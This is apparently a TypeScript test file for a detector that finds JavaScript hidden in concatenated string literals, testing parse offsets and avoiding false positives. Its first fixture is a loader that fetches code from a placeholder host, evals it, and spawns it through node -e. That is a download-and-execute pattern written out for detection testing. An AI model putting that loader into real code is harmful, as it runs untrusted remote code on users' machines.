import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { embeddedScripts } from './embedded.js';
import { parseJs } from './parse.js';

const units = (text: string) => embeddedScripts({ ast: parseJs(text).ast, text });

describe('embedded scripts', () => {
  it('a `+` chain of short literals that is code is parsed, with offsets inside the literals', () => {
    const text =
      "const loader =\n  \"require('https').get('https://h.example.invalid/v3/'+process.platform,r=>{let d='';\" +\n" +
      "  \"r.on('data',c=>d+=c).on('end',()=>{eval(d)})})\";\nspawn(process.execPath, ['-e', loader]);\n";
    const [u, ...rest] = units(text);
    assert.ok(u && rest.length === 0);
    // Every node's offsets fall inside the two literals' text, and the eval call is found where the file spells it.
    const evalAt = text.indexOf('eval(d)');
    let found = false;
    const visit = (n: any) => {
      if (!n || typeof n.type !== 'string') return;
      if (n.type === 'CallExpression' && n.callee?.name === 'eval') found = text.slice(n.start, n.end) === 'eval(d)' && n.start === evalAt;
      for (const k of Object.keys(n)) {
        const v = n[k];
        if (Array.isArray(v)) v.forEach(visit);
        else if (v && typeof v === 'object' && k !== 'range') visit(v);
      }
    };
    visit(u);
    assert.ok(found, 'eval located at its source offset');
  });

  it('chains that are prose, that mix in variables, or that are short are not parsed', () => {
    assert.deepEqual(units("const msg = 'Could not find the configuration file; ' + 'please run the init command first and try again ' + 'or pass --config with a path.';\n"), []);
    assert.deepEqual(units("const src = 'require(' + JSON.stringify(name) + ').default(options, function () { return eval(code) })';\n"), []);
    assert.deepEqual(units("const s = 'eval(' + 'x)';\n"), []);
  });
});
